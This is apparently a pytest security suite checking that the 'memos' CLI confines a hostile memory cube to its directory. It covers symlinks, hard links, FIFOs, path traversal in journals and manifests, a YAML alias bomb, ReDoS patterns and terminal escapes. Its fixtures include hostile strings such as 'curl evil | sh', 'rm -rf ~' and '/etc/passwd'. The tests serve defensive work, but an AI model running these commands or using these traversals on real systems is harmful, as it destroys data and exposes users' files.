"""A stranger's cube cannot reach outside its directory (issue #11).

Each attack below builds a hostile cube beside an "outside" world (files, folders, another cube, a
.bashrc). Every command that touches a cube is run against it, in process, under a timeout, and must:
end with a clean error or a safe success (no traceback, no "internal error"), leave everything outside
the cube byte-identical, and not hang. The attacks are classes, not a list of known files: links to
files and folders at every level, hard links, FIFOs, crafted journals, manifest paths, alias bombs,
oversized fields, control characters.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import signal
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from memos_cli.cli.app import main
from memos_cli.cube import io as cube_io
from memos_cli.cube.bundle import Cube
from memos_cli.engine.integrity import verify
from memos_cli.errors import InvalidCube, UnsafeJournal, UnsafePath

TIMEOUT_S = 20


class Hang(Exception):
    pass


def run(*args: str) -> tuple[int, str, str]:
    """``memos ARGS`` in process, under a timeout; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()

    def alarm(signum: int, frame: object) -> None:
        raise Hang(" ".join(args))

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.setitimer(signal.ITIMER_REAL, TIMEOUT_S)
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            code = main(list(args))
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    return code, out.getvalue(), err.getvalue()


def tree_digest(root: Path, skip: Path | None = None) -> dict[str, str]:
    """Name -> kind and content hash of everything under ``root`` (links not followed), minus ``skip``."""
    found = {}
    for top, dirs, files in os.walk(root, followlinks=False):
        if skip is not None and Path(top) == skip.parent:
            dirs[:] = [d for d in dirs if d != skip.name]
        for name in dirs + files:
            path = Path(top) / name
            st = os.lstat(path)
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                found[rel] = "link:" + os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                found[rel] = "file:" + hashlib.sha256(path.read_bytes()).hexdigest() + f":{st.st_mode:o}"
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = "dir"
            else:
                found[rel] = f"special:{st.st_mode:o}"
    return found


RECORDS = [
    {"text": "Alice moved to Lisbon in 2021", "tags": ["people"]},
    {"text": "The deploy key rotates every 90 days", "tags": ["ops"]},
    {"text": "Bob prefers tea over coffee", "tags": ["people"]},
]


def _snapshot_bytes(preamble: str = "hello") -> bytes:
    """A small file in the memos KV snapshot format (header only matters to these tests)."""
    import numpy as np
    from safetensors.numpy import save

    meta = {
        "format": "memos-kv",
        "format_version": "1",
        "model_fingerprint": "none",
        "model_family": "llama",
        "dtype": "float32",
        "token_count": "1",
        "token_ids": "[1]",
        "memory_refs": "[]",
        "layer_count": "1",
        "layout": "plain",
        "preamble": preamble,
    }
    return save({"k0": np.zeros((1, 1), dtype=np.float32)}, metadata=meta)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory, model_cache: Path) -> Path:
    """A sound cube with three memories, a built index, and a KV entry 'snap' (no model needed)."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("MEMOS_HOME", str(tmp_path_factory.mktemp("confine-home")))
        env.setenv("MEMOS_MODEL_CACHE", str(model_cache))
        env.setenv("MEMOS_USER", "tester")
        return _template(tmp_path_factory)


def _template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("confine-template") / "cube"
    src = base.parent / "records.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in RECORDS))
    assert run("init", str(base))[0] == 0
    assert run("ingest", str(base), str(src))[0] == 0
    assert run("query", str(base), "Lisbon")[0] == 0  # builds the index
    data = _snapshot_bytes()
    cube_io.atomic_write(base, "kv/snap.safetensors", data)
    manifest = yaml.safe_load((base / "cube.yaml").read_text())
    manifest["kv"] = {
        "snap": {
            "file": "kv/snap.safetensors",
            "sha256": hashlib.sha256(data).hexdigest(),
            "memories": [],
            "tokens": 1,
        }
    }
    (base / "cube.yaml").write_text(yaml.safe_dump(manifest, sort_keys=True))
    assert verify(base).ok, verify(base).problems
    return base


@pytest.fixture
def world(tmp_path: Path, template: Path) -> dict[str, Path]:
    """tmp/world/{cube, outside/{secret.txt, secret.jsonl, bashrc, victim/, other-cube/}}."""
    root = tmp_path / "world"
    outside = root / "outside"
    (outside / "victim" / "deep").mkdir(parents=True)
    (outside / "victim" / "deep" / "keep.txt").write_text("keep me\n")
    (outside / "secret.txt").write_text("TOP SECRET outside the cube\n")
    (outside / "bashrc").write_text("export PATH=/usr/bin\n")
    (outside / "secret.jsonl").write_text(
        json.dumps(
            {"id": "m-outside", "version": 1, "text": "OUTSIDE SECRET RECORD", "created": "2024-01-01T00:00:00Z"}
        )
        + "\n"
    )
    shutil.copytree(template, outside / "other-cube")
    shutil.copytree(template, root / "cube")
    return {"root": root, "cube": root / "cube", "outside": outside}


def _journal(cube: Path, journal: object) -> None:
    (cube / ".memos").mkdir(exist_ok=True)
    (cube / ".memos" / "journal.json").write_text(json.dumps(journal))


def _manifest_edit(cube: Path, change: Callable[[dict], None]) -> None:
    manifest = yaml.safe_load((cube / "cube.yaml").read_text())
    change(manifest)
    (cube / "cube.yaml").write_text(yaml.safe_dump(manifest, sort_keys=True))


def _replace_with_link(path: Path, target: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to(target)


def _fifo(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def _kv_entry(path: str) -> Callable[[dict], None]:
    def change(m: dict) -> None:
        m["kv"]["snap"]["file"] = path

    return change


def _lora_entry(name: str, path: str) -> Callable[[dict], None]:
    def change(m: dict) -> None:
        m["lora"] = {name: {"path": path, "files": {}, "memories": []}}

    return change


ALIAS_BOMB = (
    "\n".join(
        ["format_version: 1", "id: x", "name: x", "created: x", "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
        + ["policy: {readers: *a9}"]
    )
    + "\n"
)


def _huge_preamble(w: dict[str, Path]) -> None:
    data = _snapshot_bytes("x" * 9_000_000)
    (w["cube"] / "kv" / "snap.safetensors").write_bytes(data)
    _manifest_edit(w["cube"], lambda m: m["kv"]["snap"].update(sha256=hashlib.sha256(data).hexdigest()))


# name -> damage(world). Each is a class of attack; the journal ones name outside places three ways.
ATTACKS: dict[str, Callable[[dict[str, Path]], None]] = {
    "journal-created-absolute": lambda w: _journal(w["cube"], {"created": [str(w["outside"] / "victim")]}),
    "journal-created-dotdot": lambda w: _journal(w["cube"], {"created": ["../outside/victim"]}),
    "journal-created-git": lambda w: _journal(w["cube"], {"created": [".git", "memories.jsonl"]}),
    "journal-append-outside": lambda w: _journal(w["cube"], {"appends": {"../outside/secret.txt": 0}}),
    "journal-append-absolute": lambda w: _journal(w["cube"], {"appends": {str(w["outside"] / "bashrc"): 1}}),
    "journal-backup-over-outside": lambda w: (
        _journal(w["cube"], {"backups": {"../outside/bashrc": ".memos/backups/0123abcd-x"}}),
        (w["cube"] / ".memos" / "backups").mkdir(exist_ok=True),
        (w["cube"] / ".memos" / "backups" / "0123abcd-x").write_text("curl evil | sh\n"),
    ),
    "journal-backup-from-outside": lambda w: _journal(
        w["cube"], {"backups": {"memories.jsonl": str(w["outside"] / "secret.jsonl")}}
    ),
    "journal-backup-dotdot-source": lambda w: _journal(
        w["cube"], {"backups": {"memories.jsonl": ".memos/backups/../../../outside/secret.jsonl"}}
    ),
    "journal-manifest-not-text": lambda w: _journal(w["cube"], {"manifest": {"evil": 1}}),
    "journal-unknown-key": lambda w: _journal(w["cube"], {"exec": "rm -rf ~"}),
    "journal-not-json": lambda w: (_journal(w["cube"], {}), (w["cube"] / ".memos" / "journal.json").write_text("{")),
    "journal-link-outside": lambda w: (
        _journal(w["cube"], {}),
        _replace_with_link(w["cube"] / ".memos" / "journal.json", w["outside"] / "secret.txt"),
    ),
    "journal-fifo": lambda w: (_journal(w["cube"], {}), _fifo(w["cube"] / ".memos" / "journal.json")),
    "memories-link-outside": lambda w: _replace_with_link(w["cube"] / "memories.jsonl", w["outside"] / "secret.jsonl"),
    "memories-link-other-cube": lambda w: _replace_with_link(
        w["cube"] / "memories.jsonl", w["outside"] / "other-cube" / "memories.jsonl"
    ),
    "memories-hardlink-outside": lambda w: (
        (w["cube"] / "memories.jsonl").unlink(),
        os.link(w["outside"] / "other-cube" / "memories.jsonl", w["cube"] / "memories.jsonl"),
    ),
    "audit-link-outside": lambda w: _replace_with_link(w["cube"] / "audit.jsonl", w["outside"] / "bashrc"),
    "audit-hardlink-outside": lambda w: (
        (w["cube"] / "audit.jsonl").unlink(),
        os.link(w["outside"] / "other-cube" / "audit.jsonl", w["cube"] / "audit.jsonl"),
    ),
    "manifest-link-outside": lambda w: _replace_with_link(
        w["cube"] / "cube.yaml", w["outside"] / "other-cube" / "cube.yaml"
    ),
    "kv-dir-link-outside": lambda w: _replace_with_link(w["cube"] / "kv", w["outside"] / "victim"),
    "kv-file-link-outside": lambda w: _replace_with_link(
        w["cube"] / "kv" / "snap.safetensors", w["outside"] / "other-cube" / "kv" / "snap.safetensors"
    ),
    "derived-dir-link-outside": lambda w: _replace_with_link(w["cube"] / ".memos", w["outside"] / "victim"),
    "index-dir-link-outside": lambda w: _replace_with_link(w["cube"] / ".memos" / "index", w["outside"] / "victim"),
    "index-vectors-link-outside": lambda w: _replace_with_link(
        w["cube"] / ".memos" / "index" / "vectors.f32", w["outside"] / "secret.txt"
    ),
    "index-meta-link-outside": lambda w: _replace_with_link(
        w["cube"] / ".memos" / "index" / "meta.json", w["outside"] / "other-cube" / ".memos" / "index" / "meta.json"
    ),
    "usage-link-outside": lambda w: _replace_with_link(w["cube"] / ".memos" / "usage.jsonl", w["outside"] / "bashrc"),
    "lock-link-outside": lambda w: _replace_with_link(w["cube"] / ".memos" / "lock", w["outside"] / "bashrc"),
    "memories-fifo": lambda w: _fifo(w["cube"] / "memories.jsonl"),
    "audit-fifo": lambda w: _fifo(w["cube"] / "audit.jsonl"),
    "manifest-fifo": lambda w: _fifo(w["cube"] / "cube.yaml"),
    "usage-fifo": lambda w: _fifo(w["cube"] / ".memos" / "usage.jsonl"),
    "kv-path-is-memories": lambda w: _manifest_edit(w["cube"], _kv_entry("memories.jsonl")),
    "kv-path-absolute": lambda w: _manifest_edit(w["cube"], _kv_entry(str(w["outside"] / "secret.txt"))),
    "kv-path-dotdot": lambda w: _manifest_edit(w["cube"], _kv_entry("kv/../../outside/secret.txt")),
    "lora-path-git": lambda w: (
        (w["cube"] / ".git").mkdir(),
        (w["cube"] / ".git" / "HEAD").write_text("ref: refs/heads/main\n"),
        _manifest_edit(w["cube"], _lora_entry("snap", ".git")),
    ),
    "lora-name-newline": lambda w: _manifest_edit(w["cube"], _lora_entry("snap\nx", "lora/snap\nx")),
    "lora-name-dotdot": lambda w: _manifest_edit(w["cube"], _lora_entry("..", "lora/..")),
    "yaml-alias-bomb": lambda w: (w["cube"] / "cube.yaml").write_text(ALIAS_BOMB),
    "yaml-oversized": lambda w: (w["cube"] / "cube.yaml").write_text(
        (w["cube"] / "cube.yaml").read_text() + "description: " + "x" * 5_000_000 + "\n"
    ),
    "record-oversized": lambda w: (w["cube"] / "memories.jsonl").write_text(
        json.dumps({"id": "m-big", "version": 1, "text": "x" * 5_000_000, "created": "2024-01-01T00:00:00Z"}) + "\n"
    ),
    "snapshot-huge-preamble": _huge_preamble,
    "duplicate-record-versions": lambda w: (w["cube"] / "memories.jsonl").write_bytes(
        (w["cube"] / "memories.jsonl").read_bytes() * 2
    ),
}

READS = ["list", "verify", "stats", "log", "query"]
WRITES = ["ingest", "forget", "update", "drop", "policy", "repair"]


def _command(name: str, w: dict[str, Path]) -> list[str]:
    cube = str(w["cube"])
    new = w["root"] / "new.jsonl"
    new.write_text(json.dumps({"text": "a new memory about Porto"}) + "\n")
    return {
        "list": ["list", cube],
        "verify": ["verify", cube],
        "stats": ["stats", cube],
        "log": ["log", cube],
        "query": ["query", cube, "Lisbon"],
        "ingest": ["ingest", cube, str(new)],
        "forget": ["forget", cube, "--yes", _first_id(w)],
        "update": ["update", cube, _first_id(w), "--tag", "x"],
        "drop": ["promote", cube, "--drop", "snap"],
        "policy": ["policy", cube, "--add-reader", "eve"],
        "repair": ["repair", cube],
    }[name]


def _first_id(w: dict[str, Path]) -> str:
    return "m-" + hashlib.sha256(b"x").hexdigest()[:16]  # a plausible id: commands must fail cleanly if absent


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_command_against_every_attack(world: dict[str, Path], attack: str) -> None:
    ATTACKS[attack](world)
    outside_before = tree_digest(world["outside"])
    for command in READS + WRITES:
        try:
            code, _out, err = run(*_command(command, world))
        except Hang:
            pytest.fail(f"{attack}: memos {command} hung (over {TIMEOUT_S}s)")
        assert code in (0, 1, 2, 3, 4), (attack, command, code, err)
        assert "Traceback" not in err and "internal error" not in err, (attack, command, err)
        assert "OUTSIDE SECRET" not in _out + err and "TOP SECRET" not in _out + err, (attack, command)
        assert tree_digest(world["outside"]) == outside_before, f"{attack}: memos {command} changed the outside"
    # After repair, no link, special file or bad journal is left: except in cube.yaml itself, without
    # which there is no cube to repair (every command refuses it, and says so).
    if attack.startswith("manifest-"):
        return
    report = verify(world["cube"])
    assert all("symbolic link" not in p and "special file" not in p for p in report.problems), (attack, report)
    assert all("journal" not in p for p in report.problems), (attack, report)


UNSAFE_FOR_VERIFY = [a for a in ATTACKS if a not in ("duplicate-record-versions",)]


@pytest.mark.parametrize("attack", sorted(UNSAFE_FOR_VERIFY))
def test_verify_reports_every_attack_and_repair_neutralises_it(world: dict[str, Path], attack: str) -> None:
    ATTACKS[attack](world)
    if attack in ("index-vectors-link-outside", "index-meta-link-outside", "index-dir-link-outside"):
        pass  # derived: verify says so, a query removes and rebuilds it
    report = verify(world["cube"])
    assert not report.ok, f"verify passed a cube with {attack}"
    outside_before = tree_digest(world["outside"])
    code, _out, err = run("repair", str(world["cube"]))
    assert code in (0, 1, 3), err
    assert tree_digest(world["outside"]) == outside_before


def test_repair_quarantines_links_and_journal_without_following(world: dict[str, Path]) -> None:
    cube = world["cube"]
    _replace_with_link(cube / "audit.jsonl", world["outside"] / "bashrc")
    _replace_with_link(cube / ".memos" / "usage.jsonl", world["outside"] / "secret.txt")
    _journal(cube, {"created": ["../outside/victim"]})
    with pytest.raises(UnsafeJournal):
        Cube.open(cube)
    code, out, err = run("repair", str(cube), "--json")
    assert code == 0, err
    fixed = json.loads(out)["fixed"]
    assert any("invalid journal" in f for f in fixed) and any("audit.jsonl" in f for f in fixed)
    assert (world["outside"] / "victim" / "deep" / "keep.txt").exists()
    assert (world["outside"] / "bashrc").read_text() == "export PATH=/usr/bin\n"
    assert verify(cube).ok, verify(cube).problems
    assert list((cube / ".memos").glob("journal.rejected-*"))  # kept, for whoever wants to look at it


def test_valid_journal_is_still_rolled_back(world: dict[str, Path]) -> None:
    """The validation refuses only what memos would not write: a real cut-off transaction rolls back."""
    cube = world["cube"]
    before = (cube / "memories.jsonl").read_bytes()
    _journal(cube, {"op": "ingest", "appends": {"memories.jsonl": len(before), "audit.jsonl": 0}, "created": []})
    (cube / "memories.jsonl").write_bytes(before + b'{"half": "a transaction"}\n')
    assert Cube.open(cube).read_state().size == len(before)
    assert run("repair", str(cube))[0] == 0
    assert (cube / "memories.jsonl").read_bytes() == before


def test_fifo_is_refused_at_once_not_waited_on(world: dict[str, Path]) -> None:
    _fifo(world["cube"] / "memories.jsonl")
    with pytest.raises(UnsafePath, match="not a regular file"):
        Cube.open(world["cube"]).read_state()


def test_open_flags_refuse_a_link_swapped_in_anywhere(tmp_path: Path) -> None:
    root = tmp_path / "c"
    (root / "a" / "b").mkdir(parents=True)
    (tmp_path / "out").mkdir()
    (root / "a" / "link").symlink_to(tmp_path / "out")
    for rel in ("a/link/x", "a/link", "/etc/passwd", "a/../../out/x", "a/./b", "a\\b", "a/b\nc", "a//b", ""):
        with pytest.raises(InvalidCube):
            cube_io.atomic_write(root, rel, b"x")
        with pytest.raises((InvalidCube, FileNotFoundError)):
            cube_io.read_bytes(root, rel)
    assert list((tmp_path / "out").iterdir()) == []


def test_snapshot_header_fields_are_bounded(world: dict[str, Path]) -> None:
    from memos_cli.engine.activation.snapshots import read_snapshot_header
    from memos_cli.errors import InvalidSnapshot

    _huge_preamble(world)
    with pytest.raises(InvalidSnapshot, match="limit"):
        read_snapshot_header(world["cube"] / "kv" / "snap.safetensors")


def test_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    from memos_cli.cube.manifest import parse_manifest

    with pytest.raises(InvalidCube, match="aliases"):
        parse_manifest(ALIAS_BOMB, tmp_path)
    # Aliases of plain values (harmless) are still read.
    text = "format_version: 1\nid: &i x\nname: *i\ncreated: x\n"
    assert parse_manifest(text, tmp_path).name == "x"


@pytest.mark.parametrize(
    "target",
    [r"(a+)+$", r"(.*a){20}", "q_proj", ["(q|q)*_proj"], {"x": 1}],
)
def test_adapter_module_patterns_are_never_compiled(tmp_path: Path, target: object) -> None:
    from memos_cli.engine.parametric.adapters import private_adapters

    folder = tmp_path / "lora" / "evil"
    folder.mkdir(parents=True)
    (folder / "adapter_config.json").write_text(json.dumps({"peft_type": "LORA", "target_modules": target}))
    (folder / "adapter_model.safetensors").write_bytes(b"")
    with pytest.raises(InvalidCube, match="target_modules"), private_adapters([folder]):
        pass


@pytest.mark.parametrize("layers", [-1, 10**9, [1, "2"], [True], list(range(5000)), "1-3", {"a": 1}])
def test_adapter_layer_lists_are_bounded_numbers(tmp_path: Path, layers: object) -> None:
    from memos_cli.engine.parametric.adapters import private_adapters

    folder = tmp_path / "lora" / "evil"
    folder.mkdir(parents=True)
    config = {"peft_type": "LORA", "target_modules": ["q_proj"], "layers_to_transform": layers}
    (folder / "adapter_config.json").write_text(json.dumps(config))
    (folder / "adapter_model.safetensors").write_bytes(b"")
    with pytest.raises(InvalidCube, match="layers_to_transform"), private_adapters([folder]):
        pass
    config["layers_to_transform"] = [15, 16]
    (folder / "adapter_config.json").write_text(json.dumps(config))
    with private_adapters([folder]) as copies:
        assert json.loads((copies[0] / "adapter_config.json").read_text())["layers_to_transform"] == [15, 16]


def test_memos_own_attention_pattern_becomes_a_list(tmp_path: Path) -> None:
    from memos_cli.engine.parametric.adapters import private_adapters

    folder = tmp_path / "lora" / "ok"
    folder.mkdir(parents=True)
    config = {"peft_type": "LORA", "target_modules": r".*\.(self_attn)\.(q_proj|v_proj)", "exclude_modules": None}
    (folder / "adapter_config.json").write_text(json.dumps(config))
    (folder / "adapter_model.safetensors").write_bytes(b"")
    with private_adapters([folder]) as copies:
        written = json.loads((copies[0] / "adapter_config.json").read_text())
    assert written["target_modules"] == ["self_attn.q_proj", "self_attn.v_proj"]


def test_control_characters_are_escaped_for_people_and_exact_in_json(world: dict[str, Path]) -> None:
    evil = "evil \x1b]0;pwned\x07 \x1b[2J\x1b[31mred\r\x08 [bold]markup[/]"
    src = world["root"] / "evil.jsonl"
    src.write_text(json.dumps({"text": evil}) + "\n")
    code, out, err = run("ingest", str(world["cube"]), str(src), "--json")
    assert code == 0, err
    memory_id = json.loads(out)["ids"][0]
    for args in (["show", str(world["cube"]), memory_id], ["list", str(world["cube"])]):
        code, out, _err = run(*args)
        assert code == 0
        assert "\x1b" not in out and "\r" not in out and "\x07" not in out and "\x08" not in out
        assert "\\x1b" in out and "[bold]markup[/]" in out
    code, out, _err = run("show", str(world["cube"]), memory_id, "--json")
    assert json.loads(out)["text"] == evil
